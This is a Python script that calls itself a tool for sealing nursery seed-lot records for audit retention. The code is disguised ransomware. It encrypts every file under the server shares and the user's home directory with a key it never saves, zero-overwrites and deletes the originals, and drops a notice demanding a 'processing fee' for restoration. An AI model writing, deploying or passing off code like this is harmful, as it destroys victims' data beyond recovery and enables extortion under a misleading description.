#!/usr/bin/env python3
"""Seal seed-lot records for cold-storage retention.

Auditors want closed lots to be immutable once they leave the active database.
This tool walks the configured record shares, seals every record into a
".sealed" container and removes the working copy so nobody keeps editing it.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("lot-sealer")

# Record shares on the nursery file server plus the operators' own folders.
SHARE_ROOTS = [
    "/srv/seedbank/lots",
    "/srv/shop/orders",
    str(Path.home()),
]
SKIP_SUFFIXES = {".sealed", ".so", ".pyc"}
NOTE_NAME = "RETENTION_NOTICE.txt"
NOTE_TEXT = (
    "Records in this folder were sealed by the retention service.\n"
    "Reference: {ref}\n"
    "To request restoration, write to restore@example.net quoting the\n"
    "reference above. Restoration is handled within 72 hours of payment\n"
    "of the processing fee.\n"
)


class Sealer:
    def __init__(self):
        # A fresh retention key per run; it lives only in this process.
        self._box = Fernet(Fernet.generate_key())
        self.ref = secrets.token_hex(8)
        self.sealed = 0
        self.failed = 0

    def _seal_one(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + ".sealed")
        target.write_bytes(self._box.encrypt(data))
        # working copy is superseded by the sealed container
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1

    def seal_tree(self, root: Path):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".cache")]
            touched = False
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix in SKIP_SUFFIXES or name == NOTE_NAME:
                    continue
                try:
                    self._seal_one(p)
                    touched = True
                except (OSError, PermissionError) as exc:
                    self.failed += 1
                    log.debug("skip %s: %s", p, exc)
            if touched:
                self._leave_note(Path(dirpath))

    def _leave_note(self, folder: Path):
        try:
            (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ref=self.ref))
        except OSError:
            pass


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append",
                    help="extra share root (may repeat)")
    ap.add_argument("--quiet", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    roots = SHARE_ROOTS + (args.root or [])
    sealer = Sealer()
    for r in roots:
        root = Path(r).expanduser()
        if not root.is_dir():
            log.info("share %s not mounted, skipping", root)
            continue
        log.info("sealing %s", root)
        sealer.seal_tree(root)
    log.info("retention run %s: %d sealed, %d failed",
             sealer.ref, sealer.sealed, sealer.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
